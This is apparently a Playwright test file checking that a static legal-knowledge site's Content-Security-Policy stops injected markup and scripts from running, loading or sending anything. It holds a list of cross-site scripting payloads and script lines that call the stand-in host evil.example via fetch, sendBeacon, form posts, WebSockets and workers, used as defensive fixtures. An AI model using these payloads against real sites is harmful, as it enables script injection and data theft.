"""The policy for content, tried by breaking in: what is put into a page neither runs, loads nor sends anything."""

import re
from pathlib import Path

import pytest
from conftest import QUIET, ROOT_ABOVE, stored
from knowledge_base.hosting.headers import common_headers
from knowledge_base.publish.offline.package import POLICY
from playwright.sync_api import Browser, Page, expect

LINK_OUT = re.compile(r"<a [^>]*href=\"https?://[^>]*>")
EVIL = "http://evil.example"  # another site
RAN = "console.log(`it ran`)"
# Pages of each kind that is made in another way.
PAGES = (
    "",
    "id/protocols/arrest/",
    "law/crc/parallel/",
    "id/law/crc/cite/",
    "law/crc/improve/",
    "reference/search/",
    "protocols/",
    "404.html",
)
# What an attacker would put into a page, and the directive that refuses it where it
# is reported to the page.
MARKUP = {
    "<script>{ran}</script>": "script-src-elem",
    "<script src='{evil}/a.js'></script>": "script-src-elem",
    "<script src='data:text/javascript,{ran}'></script>": "script-src-elem",
    "<script type=module>{ran}</script>": "script-src-elem",
    "<img src='no-such.png' onerror='{ran}'>": "script-src-attr",
    "<svg onload='{ran}'></svg>": "script-src-attr",
    "<a id=acting href='javascript:{ran}'>x</a>": "script-src-elem",
    "<p style='color: red'>x</p>": "style-src-attr",
    "<style>@import url({evil}/b.css); p {{ background: url({evil}/c.png) }}</style>": "style-src-elem",
    "<link rel=stylesheet href='{evil}/d.css'>": "style-src-elem",
    "<img src='{evil}/e.png'>": "img-src",
    "<video src='{evil}/f.mp4' poster='{evil}/g.png' autoplay></video>": "media-src",
    "<audio src='data:audio/wav;base64,UklGRg==' autoplay></audio>": "media-src",
    "<object data='{evil}/h.swf'></object>": "object-src",
    "<embed src='{evil}/i.swf'>": "object-src",
    "<iframe src='{evil}/j.html'></iframe>": "frame-src",
    "<iframe srcdoc='&lt;script&gt;parent.{ran}&lt;/script&gt;'></iframe>": None,
    "<base href='{evil}/'>": "base-uri",
    "<link rel=manifest href='{evil}/k.json'>": None,
    "<form id=sending action='{evil}/l' method=post><input name=x value=y></form>": "form-action",
    "<form id=own action='javascript:{ran}'><input name=x></form>": "form-action",
    "<a id=pinging href='#x' ping='{evil}/ping'>x</a>": None,
}
# What a script of ours could do if it were led astray: it comes from our own address, so it runs.
OURS = """\
const put = (make) => {{ try {{ make(); }} catch {{ window.refused = (window.refused ?? 0) + 1; }} }};
put(() => eval("{ran}"));
put(() => new Function("{ran}")());
setTimeout("{ran}", 0);
put(() => new Worker("{evil}/m.js"));
put(() => new Worker(URL.createObjectURL(new Blob(["{ran}"]))));
fetch("{evil}/n").catch(() => {{}});
navigator.sendBeacon("{evil}/o");
put(() => new WebSocket("{evil}/p".replace("http", "ws")));
put(() => new EventSource("{evil}/q"));
import("{evil}/r.js").catch(() => {{}});
const font = new FontFace("evil", "url({evil}/s.woff2)");
font.load().catch(() => {{}});
"""
ACTS = """() => {
  for (const id of ["acting", "pinging"]) document.getElementById(id).click();
  for (const id of ["own", "sending"]) document.getElementById(id).submit();
}"""
REFUSED_OURS = {"script-src", "worker-src", "connect-src", "font-src"}


def broken_into(page: Page, address: str, script: str, policy: bool = True) -> tuple[set[str], list[str], list[str]]:
    """Open a page with all of the above put into it.

    Returns the directives by which it was refused, what the other site was asked for, and what ran.
    """
    asked: list[str] = []
    ran: list[str] = []
    page.on("console", lambda message: message.text == "it ran" and ran.append(message.text))

    def answer(route) -> None:
        answered = route.fetch()
        more = "".join(MARKUP).format(evil=EVIL, ran=RAN) + "<script src='/injected.js'></script>"
        text = answered.text().replace("</body>", f"{more}</body>", 1)
        if not policy:
            text = text.replace('http-equiv="Content-Security-Policy"', "")
        route.fulfill(response=answered, body=text)

    def listen(route) -> None:
        asked.append(route.request.url.removeprefix(EVIL))
        route.fulfill(headers={"Access-Control-Allow-Origin": "*"}, body="")

    page.route(f"{EVIL}/**", listen)
    page.route(address, answer)
    page.route("**/injected.js", lambda route: route.fulfill(content_type="text/javascript", body=script))
    page.add_init_script(
        "window.seen = []; addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective))"
    )
    page.goto(address)
    page.evaluate(ACTS)
    page.wait_for_timeout(200)
    return set(page.evaluate("window.seen")), asked, ran


@pytest.mark.parametrize("path", PAGES)
def test_nothing_that_is_put_into_a_page_acts(reader: Page, light_address: str, path: str) -> None:
    refused, asked, ran = broken_into(reader, light_address + path, OURS.format(evil=EVIL, ran=RAN))
    assert ran == []
    assert reader.evaluate("window.refused") >= 2  # eval and new Function
    assert asked == []
    assert reader.url.startswith(light_address)
    expected = {directive for directive in MARKUP.values() if directive} | REFUSED_OURS
    assert expected <= refused, expected - refused
    assert reader.evaluate("document.querySelector('p[style]').style.color") == ""


def test_the_same_acts_where_there_is_no_policy_so_that_the_test_can_fail(reader: Page, light_address: str) -> None:
    refused, asked, ran = broken_into(reader, light_address, "", policy=False)
    assert refused == set() and len(ran) >= 5
    assert {"/a.js", "/d.css", "/e.png", "/j.html", "/l"} <= set(asked)


def test_every_page_has_a_policy_that_names_all_that_default_does_not_cover(light_site: Path) -> None:
    pages = list(light_site.rglob("*.html"))
    assert len(pages) > 500
    policies = {policy for page in pages for policy in POLICY.findall(page.read_text("utf-8"))}
    for policy in policies:
        parts = dict(part.strip().partition(" ")[::2] for part in policy.split(";"))
        assert parts["default-src"] == parts["base-uri"] == "'none'"
        assert parts["form-action"] in ("'self'", "'none'")
        styles = parts["style-src"] = re.sub(r" 'sha256-[\w+/]{43}='$", "", parts["style-src"])  # the page's own sheet
        assert styles == "'self'"
        assert set(" ".join(parts.values()).split()) <= {"'none'", "'self'", "data:"}
        assert "data:" not in parts.get("script-src", "")
    for page in pages:
        text = page.read_text("utf-8")
        assert len(POLICY.findall(text)) == 1 and '<meta name="referrer" content="no-referrer">' in text, page


def test_no_other_site_shows_a_page_inside_its_own(browser: Browser, light_address: str) -> None:
    context = browser.new_context()
    page = context.new_page()
    headers = common_headers()
    context.route(light_address, lambda route: route.fulfill(response=route.fetch(), headers=headers))
    context.route("http://other.example/", lambda route: route.fulfill(body=f"<iframe src='{light_address}'></iframe>"))
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.goto("http://other.example/")
    page.wait_for_timeout(300)
    assert any("frame-ancestors 'none'" in line for line in said), said
    context.close()


def test_no_link_out_says_where_the_reader_came_from(light_site: Path) -> None:
    links = 0
    for page in light_site.rglob("*.html"):
        for link in LINK_OUT.findall(page.read_text("utf-8")):
            if ROOT_ABOVE not in link:
                links += 1
                assert "noreferrer" in link, (page, link)
    assert links > 10_000


def test_a_reader_s_journey_asks_no_other_site_and_stores_nothing(browser: Browser, light_address: str) -> None:
    """Through everything that acts, without a choice that is kept: colours, the copy for reading without a line."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    page = context.new_page()
    page.goto(light_address)
    page.keyboard.press("/")
    page.get_by_role("dialog").get_by_role("searchbox").fill("arrest")
    page.locator(".search__results a").first.click()
    page.goto(f"{light_address}protocols/")
    page.get_by_label("I am with").select_option("judge")
    page.goto(f"{light_address}protocols/arrest/")
    page.locator("a.term").first.hover()
    page.locator("sup a").first.click()
    page.get_by_role("link", name="Cite a section").click()
    page.go_back()
    page.get_by_role("link", name="Side by side").click()
    page.locator("header a[data-language-link]").click()
    page.goto(f"{light_address}id/about/current/")
    page.goto(f"{light_address}law/crc/improve/")
    page.goto(f"{light_address}no/such/page/")
    page.goto(f"{light_address}about/offline/")
    expect(page.locator(".kept-state")).to_contain_text("No copy is kept")
    page.goto(f"{light_address}reference/search/#q=detention")
    expect(page.locator(".search-page .search__status")).to_have_text(re.compile(r"\d+ results"), timeout=10_000)
    page.wait_for_load_state("networkidle")
    page.wait_for_timeout(QUIET)
    assert len(asked) > 50 and not [url for url in asked if not url.startswith(light_address)]
    assert stored(page) == {}
    context.close()
